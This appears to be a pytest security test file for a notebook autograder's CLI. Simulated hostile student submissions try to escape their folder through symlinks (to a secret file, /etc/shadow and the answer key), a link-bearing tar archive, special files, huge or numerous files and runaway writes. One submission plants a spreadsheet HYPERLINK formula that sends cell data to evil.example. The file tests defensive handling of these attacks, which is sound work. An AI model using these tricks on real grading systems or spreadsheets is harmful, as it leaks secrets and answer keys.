"""Submissions are data: links, special files, huge or many files and runaway writes, through the CLI.

Every hostile student sits beside honest ones. A trick that reaches past the student's own
folder would show up as the secret's text (or the hidden tests) in some output file, or as
a point for double(), which is right only when the trick worked.
"""

from __future__ import annotations

import csv
import os
import shutil
import sqlite3
import stat
import subprocess
import tarfile
import time
from pathlib import Path

import nbformat
import pytest

from autograder import sandbox
from tests.autograder.conftest import run_cli
from tests.autograder.tiny import AID, NB, tiny_notebook, write_tiny_source

pytestmark = pytest.mark.slow

SECRET = "TOP-SECRET-of-the-grader-machine"
HONEST = ("honest_1", "honest_2")
#: double() is right only if the file `name` beside the notebook holds the secret
READS_SECRET = (
    "def double(x):\n    try:\n        ok = SECRET in open({name!r}).read()\n    except OSError:\n"
    "        ok = False\n    return 2 * x if ok else 0\nSECRET = 'TOP-SECRET-' + 'of-the-grader-machine'\n"
)


def _notebook(code: str | None = None) -> nbformat.NotebookNode:
    nb = tiny_notebook()
    if code is not None:
        cell = next(c for c in nb.cells if c.metadata["nbgrader"]["grade_id"] == "double")
        cell.source = code
    return nb


def _write(folder: Path, code: str | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / f"{NB}.ipynb"
    nbformat.write(_notebook(code), path)
    return path


def _tar_with_links(tar_path: Path, secret: Path, source: Path) -> None:
    """An archive as a student might upload it: the notebook, and links pointing out."""
    members = tar_path.parent / "staging"
    _write(members, READS_SECRET.format(name="stolen"))
    with tarfile.open(tar_path, "w") as tar:
        tar.add(members / f"{NB}.ipynb", arcname=f"{NB}.ipynb")
        for name, target in (("stolen", str(secret)), ("src", str(source))):
            info = tarfile.TarInfo(name)
            info.type, info.linkname = tarfile.SYMTYPE, target
            tar.addfile(info)
    shutil.rmtree(members)


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    source = write_tiny_source(root / "source")
    key = source / AID / f"{NB}.ipynb"  # the answer key: full marks if graded
    outside = root / "outside"
    outside.mkdir()
    secret = outside / "secret.txt"
    secret.write_text(SECRET + "\n")
    sub = root / "submitted"
    folders = {}

    def student(sid, code=None):
        folders[sid] = sub / sid / AID
        path = _write(folders[sid], code)
        (folders[sid] / "data.txt").write_text(f"{sid}'s own data\n")
        return path

    for sid in HONEST:
        student(sid)
    student("link_absolute", READS_SECRET.format(name="secret"))
    os.symlink(secret, folders["link_absolute"] / "secret")
    student("link_shadow", "print(open('shadow').read())\n" + READS_SECRET.format(name="shadow"))
    os.symlink("/etc/shadow", folders["link_shadow"] / "shadow")
    student("link_relative", READS_SECRET.format(name="secret"))
    os.symlink(os.path.relpath(secret, folders["link_relative"]), folders["link_relative"] / "secret")
    student("link_folder", "import os\nprint(open(os.path.join('notes', 'tiny.ipynb')).read())\n"
                           + READS_SECRET.format(name="notes/secret.txt"))
    os.symlink(source / AID, folders["link_folder"] / "notes")
    shutil.copy(secret, source / AID / "secret.txt")  # so that notes/secret.txt would hold it
    student("link_nested", READS_SECRET.format(name="data/deep/secret"))
    (folders["link_nested"] / "data" / "deep").mkdir(parents=True)
    os.symlink(secret, folders["link_nested"] / "data" / "deep" / "secret")
    folders["answer_key"] = sub / "answer_key" / AID
    folders["answer_key"].mkdir(parents=True)
    os.symlink(key, folders["answer_key"] / f"{NB}.ipynb")
    student("dangling")
    os.symlink(outside / "gone", folders["dangling"] / "gone")
    student("fifo")
    os.mkfifo(folders["fifo"] / "pipe")
    if os.geteuid() == 0:
        student("device")
        os.mknod(folders["device"] / "zero", stat.S_IFCHR | 0o666, os.makedev(1, 5))
    folders["tarball"] = sub / "tarball" / AID
    folders["tarball"].mkdir(parents=True)
    _tar_with_links(root / "upload.tar", secret, source)
    subprocess.run(["tar", "-xf", str(root / "upload.tar"), "-C", str(folders["tarball"])], check=True)
    assert (folders["tarball"] / "stolen").is_symlink()  # tar kept the link, as it does
    student("sparse")
    with open(folders["sparse"] / "huge.bin", "wb") as f:
        f.truncate(10 * 2**30)
    student("many_files")
    many = folders["many_files"] / "many"
    many.mkdir()
    for i in range(100_000):
        (many / f"{i}").touch()
    student("writer", "for _i in range(100):\n    with open(f'big{_i}.bin', 'wb') as _f:\n"
                      "        _f.write(b'0' * 100 * 2**20)\n\ndef double(x):\n    return 2 * x\n")
    student("malformed_output", "from IPython.display import display\n"
                                "display({'text/plain': 5, 'image/png': [1, 2]}, raw=True)\n"
                                "def double(x):\n    return 2 * x\n")
    student("formula", "def double(x):\n    raise AssertionError("
                       "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") please click')\n")

    out = root / "out"
    started = time.monotonic()
    proc = run_cli("grade", str(sub), "--out", str(out), "--source", str(source), "--timeout", "20", "--quiet")
    seconds = time.monotonic() - started
    assert proc.returncode == 0, proc.stderr[-3000:]
    with (out / "grades.csv").open(newline="") as f:
        rows = {(r["student"], r["question"]): r for r in csv.DictReader(f)}
    return {"rows": rows, "out": out, "seconds": seconds, "raw_csv": (out / "grades.csv").read_text()}


def _row(hostile, sid, q="test_double"):
    return hostile["rows"][sid, q]


LINKS = ["link_absolute", "link_shadow", "link_relative", "link_folder", "link_nested", "tarball"]


@pytest.mark.parametrize("sid", LINKS)
def test_a_link_reaches_nothing_and_earns_nothing(hostile, sid):
    """Does a link beside the notebook (any kind, extracted from an archive too) earn no point, with a note?"""
    row = _row(hostile, sid)
    assert row["status"] == "failed" or row["status"] == "error", row["message"]
    assert float(row["score"]) == 0.0
    assert "symbolic link, not copied" in row["message"]
    assert _row(hostile, sid, "test_square")["status"] == "ok"


def test_the_answer_key_as_the_notebook_earns_nothing(hostile):
    """Is a notebook that is a link to the answer key invalid, with a clear message?"""
    for q in ("test_double", "test_square"):
        row = _row(hostile, "answer_key", q)
        assert (row["status"], row["score"]) == ("invalid", "0.0")
        assert "symbolic link" in row["message"]


@pytest.mark.parametrize("sid", ["dangling", "fifo", "device", "sparse", "many_files"])
def test_odd_entries_are_left_out_and_the_notebook_graded(hostile, sid):
    """Is a dangling link, a FIFO, a device, a 10 GiB file or 100,000 files left out with a note, the rest graded?"""
    if sid == "device" and ("device", "test_double") not in hostile["rows"]:
        pytest.skip("making a device node needs root")
    row = _row(hostile, sid)
    assert (row["status"], _row(hostile, sid, "test_square")["status"]) == ("ok", "ok")
    expected = {"dangling": "gone: a symbolic link", "fifo": "pipe: a named pipe", "device": "zero: a device",
                "sparse": "huge.bin: 10240.0 MiB, over the", "many_files": "more than 1,000 files"}[sid]
    assert expected in row["message"]


def test_huge_and_many_files_cost_little_time(hostile):
    """Is the class (10 GiB sparse file and 100,000 files included) graded within 4 minutes, each under 30 s?"""
    assert hostile["seconds"] < 240
    for sid in ("sparse", "many_files"):
        assert float(_row(hostile, sid)["seconds"]) < 30


def test_the_report_lists_what_was_left_out(hostile):
    """Does the report count the submissions with entries left out, and list each entry?"""
    text = (hostile["out"] / "report.html").read_text()
    n = 10 + (("device", "test_double") in hostile["rows"])  # links, tar, dangling, fifo, sparse, many
    assert f"{n} submissions had entries left out" in text
    assert "huge.bin: 10240.0 MiB" in text and "stolen: a symbolic link, not copied" in text


def test_runaway_writes_cost_only_their_own_question(hostile):
    """Does a cell writing 100 MiB files until it fails lose its own question only, told why?"""
    row = _row(hostile, "writer")
    assert row["status"] == "error" and "No space left on device" in row["message"], row["message"]
    assert _row(hostile, "writer", "test_square")["status"] == "ok"


def test_a_malformed_output_is_dropped_and_the_notebook_graded(hostile):
    """A cell displaying what no notebook can hold (a number as text, a list as an image): the
    output is dropped with a note, the notebook graded as usual (not a grader error)."""
    for q in ("test_double", "test_square"):
        assert _row(hostile, "malformed_output", q)["status"] == "ok", _row(hostile, "malformed_output", q)
    page = next((hostile["out"] / "feedback" / "malformed_output").rglob("*.html")).read_text()
    assert "could not read was dropped" in page


def test_honest_students_keep_full_marks(hostile):
    """Are the honest students graded exactly as usual beside all this?"""
    for sid in HONEST:
        for q in ("test_double", "test_square"):
            row = _row(hostile, sid, q)
            assert row["status"] == "ok" and row["message"].startswith("passed"), row
            assert "left out" not in row["message"]


def test_nothing_from_outside_appears_in_any_output(hostile):
    """Is the secret (or a hidden test) absent from every file the grader wrote?"""
    out = hostile["out"]
    for path in out.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            assert SECRET.encode() not in data and b"daemon:*:" not in data, path
            # what students see; the gradebook and autograded/ are the instructor's and hold the tests
            if path.parts[len(out.parts)] == "feedback" or path.name == "grades.csv":
                assert b"hidden: double" not in data, path


def test_a_formula_in_a_message_is_inert(hostile):
    """Is a message that starts like a spreadsheet formula written as text, otherwise intact?"""
    message = _row(hostile, "formula")["message"]
    assert message.startswith("'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") please click")
    for row in hostile["rows"].values():
        assert not any(str(v).startswith(("=", "+", "@")) for v in row.values()), row


@pytest.mark.skipif(os.geteuid() != 0 or shutil.which("mount") is None, reason="mounting a tmpfs needs root")
def test_a_full_output_disk_fails_closed_and_a_rerun_completes(tmp_path):
    """When OUT fills up mid-run: a clear message, exit 2, nothing half-written; after freeing space, a rerun grades the rest."""
    source = write_tiny_source(tmp_path / "source")
    sub = tmp_path / "submitted"
    for i in range(3):
        _write(sub / f"student_{i}" / AID)
    args = ["--source", str(source), "--timeout", "20", "--quiet", "--workers", "1"]
    out = tmp_path / "out"
    out.mkdir()
    subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={16 * 2**20}", "tmpfs", str(out)], check=True)
    try:
        assert run_cli("grade", str(sub), "--out", str(out), *args).returncode == 0
        for i in range(3, 8):  # five more students hand in; the disk has room for almost nothing
            _write(sub / f"student_{i}" / AID)
        free = os.statvfs(out).f_bavail * os.statvfs(out).f_frsize
        (out / "ballast").write_bytes(b"\0" * (free - 8192))
        proc = run_cli("grade", str(sub), "--out", str(out), *args)
        assert proc.returncode == 2, proc.stdout[-2000:] + proc.stderr[-2000:]
        assert "could not write the results" in proc.stderr and "run the same command again" in proc.stderr
        assert "No space left on device" in proc.stderr or "disk is full" in proc.stderr
        assert "Traceback" not in proc.stderr
        assert not list(out.rglob("*.tmp"))
        states = list((out / "state").rglob("*.json"))
        graded = [p.parent.parent.name for p in states]
        assert 3 <= len(graded) < 8, graded
        with sqlite3.connect(out / "gradebook.db") as db:
            assert db.execute("pragma integrity_check").fetchone() == ("ok",)
            in_db = {r[0] for r in db.execute("select student_id from submitted_assignment")}
        assert set(graded) <= in_db  # a state file (done) is never ahead of the gradebook
        if (out / "grades.csv").exists():
            with (out / "grades.csv").open(newline="") as f:
                assert all(r["status"] for r in csv.DictReader(f))
        subprocess.run(["mount", "-o", f"remount,size={64 * 2**20}", str(out)], check=True)
        proc = run_cli("grade", str(sub), "--out", str(out), *args)
        assert proc.returncode == 0, proc.stderr[-2000:]
        with (out / "grades.csv").open(newline="") as f:
            rows = list(csv.DictReader(f))
        assert len(rows) == 16 and all(r["status"] == "ok" for r in rows)
    finally:
        subprocess.run(["umount", "-l", str(out)], check=False)


@pytest.mark.skipif(not sandbox.status()[0], reason="the sandbox is off: reading is still safe, copying is the test")
def test_the_sandbox_never_writes_the_staged_submission(tmp_path):
    """Is the folder the grader stages read-only to the kernel (the copy inside is its own)?"""
    work, runtime = tmp_path / "work", tmp_path / "run"
    work.mkdir()
    runtime.mkdir()
    (work / "data.txt").write_text("staged\n")
    sandbox.share(work)
    sandbox.own(runtime)
    proc = subprocess.run(sandbox.command(
        ["/bin/sh", "-c", f"echo x > {sandbox.INSIDE_SUBMISSION}/data.txt; echo y > data.txt; cat data.txt"],
        work, runtime), capture_output=True, text=True, timeout=60, check=False)
    assert "Read-only file system" in proc.stderr and proc.stdout.strip() == "y"
    assert (work / "data.txt").read_text() == "staged\n"
